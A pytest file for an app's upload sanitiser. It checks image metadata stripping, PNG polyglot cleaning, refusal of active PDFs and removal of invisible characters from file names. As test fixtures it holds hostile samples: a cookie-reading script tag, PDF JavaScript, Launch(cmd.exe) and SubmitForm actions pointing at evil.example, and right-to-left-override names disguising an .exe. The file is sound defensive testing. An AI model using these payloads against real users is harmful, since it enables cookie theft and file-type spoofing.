"""What is kept of an uploaded file is harmless: images re-encoded, active PDFs refused, names without tricks."""

from __future__ import annotations

import io

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from sqlalchemy.orm import Session

from citizen_app.core import attachments
from citizen_app.core.attachments import AttachmentRejected
from citizen_app.core.storage import get_storage, key_for
from tests.unit.dossiers.helpers import PDF, jpeg, png


def _pdf(body: bytes) -> bytes:
    """A one-page PDF whose catalogue (object 1) carries ``body`` as extra entries."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R" + body + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n"
    )


def _photo_with_gps() -> bytes:
    image = Image.new("RGB", (64, 48), "green")
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° to show
    gps = {1: "N", 2: (21.0, 1.0, 30.0), 3: "E", 4: (105.0, 50.0, 10.0)}
    exif[0x8825] = gps
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"secret comment")
    return out.getvalue()


def test_photos_lose_their_metadata_and_stay_upright() -> None:
    original = _photo_with_gps()
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif().get_ifd(0x8825)  # the GPS position is really there
    kept = attachments.reencode_image(original, "image/jpeg")
    with Image.open(io.BytesIO(kept)) as after:
        assert not after.getexif() and "exif" not in after.info and "comment" not in after.info
        assert after.size == (48, 64)  # the orientation was applied before the EXIF went
    assert b"PhoneMaker" not in kept and b"secret comment" not in kept


def test_a_polyglot_loses_whatever_rode_along() -> None:
    """A valid PNG with an HTML/JS payload appended (and one in a text chunk) comes out as the picture only."""
    payload = b"<script>alert(document.cookie)</script>"
    image = Image.new("RGB", (20, 20), "red")
    out = io.BytesIO()
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", payload.decode())
    image.save(out, "PNG", pnginfo=info)
    polyglot = out.getvalue() + payload
    content_type, kept = attachments.checked_content("ảnh.png", polyglot, "image/png")
    assert content_type == "image/png" and payload not in kept
    with Image.open(io.BytesIO(kept)) as again:
        assert again.size == (20, 20) and again.getpixel((0, 0))[:3] == (255, 0, 0)


def test_checked_content_keeps_a_clean_pdf_byte_for_byte() -> None:
    assert attachments.checked_content("don.pdf", PDF) == ("application/pdf", PDF)
    assert attachments.checked_content("a.jpg", jpeg())[0] == "image/jpeg"
    assert attachments.checked_content("a.png", png())[0] == "image/png"


@pytest.mark.parametrize(
    "extra",
    [
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        b"/OpenAction 4 0 R",  # an action held in another object (defined below)
        b"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert(1))>>]>>>>",
        b"/AA<</WC<</S/JavaScript/JS(this.print())>>>>",
        b"/OpenAction<</S/Launch/F(cmd.exe)>>",
        b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>",  # names written with escapes
        b"/AcroForm<</Fields[]/XFA 5 0 R>>",
    ],
)
def test_pdfs_with_scripts_or_automatic_actions_are_refused(extra: bytes) -> None:
    data = _pdf(extra).replace(
        b"trailer",
        b"4 0 obj<</S/SubmitForm/F(https://evil.example/)>>endobj\n5 0 obj<<>>endobj\ntrailer",
    )
    with pytest.raises(AttachmentRejected) as refused:
        attachments.check_file("don.pdf", data)
    assert refused.value.message.msgid == attachments.MSG_PDF_ACTIVE


def test_a_page_annotation_running_javascript_is_found_in_an_object_stream() -> None:
    """pypdf writes compressed object streams: the check reads through them."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
    writer.compress_identical_objects()
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(AttachmentRejected) as refused:
        attachments.check_file("scan.pdf", out.getvalue())
    assert refused.value.message.msgid == attachments.MSG_PDF_ACTIVE


def test_an_open_action_that_only_chooses_the_first_page_is_harmless() -> None:
    assert attachments.check_file("don.pdf", _pdf(b"/OpenAction[3 0 R/Fit]")) == "application/pdf"


def test_unreadable_and_locked_pdfs_are_refused() -> None:
    with pytest.raises(AttachmentRejected) as broken:
        attachments.check_file("hong.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    assert broken.value.message.msgid == attachments.MSG_PDF_UNREADABLE
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(user_password="mat-khau", owner_password="chu")
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(AttachmentRejected) as locked:
        attachments.check_file("khoa.pdf", out.getvalue())
    assert locked.value.message.msgid == attachments.MSG_PDF_LOCKED


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("hoa-don\u202efdp.exe", "hoa-donfdp.exe"),  # right-to-left override: "hoa-donexe.pdf" on screen
        ("giay\u2066to\u2069.pdf", "giayto.pdf"),  # isolates
        ("cccd\u200b\u200c\u200d\u2060\ufeff.jpg", "cccd.jpg"),  # zero-width characters
        ("a\u200fb\u200e.png", "ab.png"),  # direction marks
        ("dòng\u2028mới.pdf", "dòngmới.pdf"),  # line separator
        ("Giấy khai sinh.pdf", "Giấy khai sinh.pdf"),  # Vietnamese letters stay
    ],
)
def test_file_names_lose_invisible_characters(given: str, shown: str) -> None:
    assert attachments.sanitize_filename(given) == shown


def test_the_stored_file_is_the_re_encoded_one(db_session: Session) -> None:
    """add_attachment stores (and hashes) what was kept, not what was sent."""
    import hashlib

    from citizen_app.core import dossiers
    from citizen_app.core.dossiers import Actor
    from citizen_app.db.models.dossiers import DossierAttachment
    from tests.unit.dossiers.forms_fixtures import profile
    from tests.unit.dossiers.helpers import NOW, make_user, terms

    actor = Actor.citizen(make_user(db_session))
    draft_id = dossiers.start_draft(db_session, actor, terms(), profile(), now=NOW).dossier_id
    original = _photo_with_gps()
    attachment = attachments.add_attachment(
        db_session, draft_id, actor, slot_id="proof_of_residence", filename="ảnh\u202egpj.jpg", data=original,
        slot_max_files=2, now=NOW,
    )
    stored = get_storage().read(key_for(attachment.stored_name))
    assert stored != original and b"PhoneMaker" not in stored
    row = db_session.get(DossierAttachment, attachment.id)
    assert row.sha256 == hashlib.sha256(stored).hexdigest() and row.size_bytes == len(stored)
    assert row.original_name == "ảnhgpj.jpg"
